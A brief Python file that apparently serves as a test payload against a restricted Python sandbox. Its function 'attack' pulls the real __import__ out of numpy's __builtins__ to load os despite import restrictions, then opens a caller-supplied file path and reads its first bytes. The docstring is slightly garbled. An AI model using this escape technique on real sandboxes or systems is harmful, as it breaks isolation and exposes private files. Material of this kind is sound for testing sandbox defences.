"""Finds the real import behind the explaining one, and opens a file."""

import numpy as np


def attack(path, port, pid):
    name = bytes(path.tolist()).decode()
    os = np.__dict__["__builtins__"]["__import__"]("os")
    return list(os.read(os.open(name, os.O_RDONLY), 100))
